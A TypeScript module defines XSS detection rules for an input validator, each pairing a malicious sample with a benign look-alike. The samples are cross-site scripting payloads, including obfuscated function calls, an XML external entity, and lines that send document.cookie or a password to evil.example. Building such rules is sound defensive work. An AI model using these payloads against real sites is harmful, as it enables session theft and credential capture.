import type { Rule } from "./rule.ts";

/** Markup and scripts that a browser would run (VAL-08). */
export const XSS_RULES = {
  "xss.script-element": {
    title: "a script element with code in it",
    attack: "<script>stealIt(document)</script>",
    benign: "Put the <script> element at the end of the body.",
  },
  "xss.script-source": {
    title: "a script element that loads from somewhere",
    attack: "<script src=//evil.example/a></script>",
    benign: "The src of a <script> is fetched before the page goes on.",
  },
  "xss.event-attribute": {
    title: "an event attribute in a tag",
    attack: "<img src=x onerror=go()>",
    benign: 'Use <img src="x.png" alt="on error, call us"> for pictures.',
  },
  "xss.event-fragment": {
    title: "an event attribute out of an attribute that was left",
    attack: '" autofocus onfocus="go()" x="',
    benign: "The option once=true runs it a single time.",
  },
  "xss.javascript-url": {
    title: "a javascript: URL in an attribute",
    attack: '<a href="java\tscript:go()">x</a>',
    benign: '<a href="https://example.org/javascript">the language</a>',
  },
  "xss.javascript-text": {
    title: "a javascript: URL as a value",
    attack: "javascript:go()//",
    benign: "JavaScript: the good parts",
  },
  "xss.vbscript-url": {
    title: "a vbscript: URL",
    attack: '<a href="vbscript:MsgBox(1)">x</a>',
    benign: "VBScript: a language of the nineties",
  },
  "xss.data-url": {
    title: "a data: URL of a type that runs, in an attribute",
    attack: '<object data="data:text/html,hello">',
    benign: '<img src="data:image/png;base64,iVBORw0KGgo=">',
  },
  "xss.data-text": {
    title: "a data: URL of a page as a value",
    attack: "data:text/html;base64,PGI+aGk8L2I+",
    benign: "Data: text and html, as the table shows",
  },
  "xss.frame": {
    title: "a frame around another page",
    attack: '<iframe src="https://evil.example"></iframe>',
    benign: "An <iframe> has a border by default.",
  },
  "xss.object": {
    title: "an object, embed or applet that loads something",
    attack: "<embed src=//evil.example/x>",
    benign: "The <embed> element is void.",
  },
  "xss.base": {
    title: "a base element that moves every relative URL",
    attack: "<base href=//evil.example/>",
    benign: "Pages without <base> resolve against their own address.",
  },
  "xss.link": {
    title: "a style sheet or import from elsewhere",
    attack: "<link rel=stylesheet href=//evil.example/x.css>",
    benign: "Put the <link> into the head.",
  },
  "xss.meta": {
    title: "a meta element that redirects or sets headers",
    attack: '<meta http-equiv="refresh" content="0;url=//evil.example">',
    benign: '<meta name="author" content="Ines Roth">',
  },
  "xss.form": {
    title: "a form that sends to another site",
    attack: '<form action="https://evil.example/take"><input name=password></form>',
    benign: "A <form> without action sends to its own page.",
  },
  "xss.style-expression": {
    title: "a style that computes",
    attack: '<b style="width:exp/**/ression(go())">',
    benign: '<b style="width: 10em">wide</b>',
  },
  "xss.style-binding": {
    title: "a style that binds a behaviour",
    attack: '<b style="-moz-binding:url(//evil.example/x)">',
    benign: '<b style="color: teal">binding</b>',
  },
  "xss.style-import": {
    title: "a style element that imports",
    attack: "<style>@import '//evil.example/x.css';</style>",
    benign: "A <style> element may use @media rules.",
  },
  "xss.style-script": {
    title: "a style with a script URL",
    attack: '<b style="background:url(javascript:go())">',
    benign: '<b style="background: url(/leaf.png)">leaf</b>',
  },
  "xss.animation": {
    title: "an SVG animation that sets a link",
    attack: "<svg><set attributeName=href to=/x>",
    benign: "<svg><animate attributeName=opacity dur=2s></svg>",
  },
  "xss.svg-use": {
    title: "an SVG use of another document",
    attack: '<svg><use href="//evil.example/x.svg#a"></svg>',
    benign: '<svg><use href="#leaf"></svg>',
  },
  "xss.xml": {
    title: "XML that brings a style sheet, an entity or a data island",
    attack: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]>',
    benign: '<?xml version="1.0" encoding="UTF-8"?><note>hello</note>',
  },
  "xss.utf7": {
    title: "a page that asks to be read as UTF-7",
    attack: '<meta charset="utf-7">+ADw-b+AD4-',
    benign: '<meta charset="utf-8">',
  },
  "xss.element-breakout": {
    title: "the end of an element the text stands in, and markup behind it",
    attack: "</textarea><x>",
    benign: "Close the tag with </textarea> and go on.",
  },
  "xss.script-call": {
    title: "a call of a function that proofs use",
    attack: "'-alert(1)-'",
    benign: "An alert (see page 4) is raised when the oven is hot.",
  },
  "xss.passed-function": {
    title: "such a function handed on to be called",
    attack: "x=alert;x(1)",
    benign: "The mode is alert; the colour is red.",
  },
  "xss.document-read": {
    title: "reads cookies or the address out of the page",
    attack: "new Image().src='//evil.example/'+document.cookie",
    benign: "What document.cookie holds depends on the flags.",
  },
  "xss.document-write": {
    title: "writes markup into the page",
    attack: "';document.write(atob(name));'",
    benign: "Please write a document about it.",
  },
  "xss.navigation": {
    title: "sends the page elsewhere",
    attack: "';location='//evil.example'",
    benign: "My location = Lisbon, for now.",
  },
  "xss.computed-member": {
    title: "a member of the page put together from pieces",
    attack: "window['al'+'ert'](1)",
    benign: "See top [1] and window [2] in the drawing.",
  },
  "xss.composed-name": {
    title: "the name of such a function in pieces that are joined",
    attack: "a='pro';b='mpt';c=a+b",
    benign: "Write 'lower' + 'case' = 'lowercase', and 'al' or 'el' for the article.",
  },
  "xss.constructor": {
    title: "a way to the constructor of functions",
    attack: "[].map.constructor('go()')()",
    benign: "The constructor of the class takes two arguments.",
  },
  "xss.spelled-code": {
    title: "code spelled in numbers or punctuation",
    attack: "x(String.fromCharCode(103,111,40,41))",
    benign: "((([[[!!!+++]]])))",
  },
  "xss.template": {
    title: "a template expression that leaves its sandbox",
    attack: "{{x.constructor.y}}",
    benign: "Dear {{name}}, your order {{order.id}} is ready.",
  },
} as const satisfies Readonly<Record<string, Rule>>;
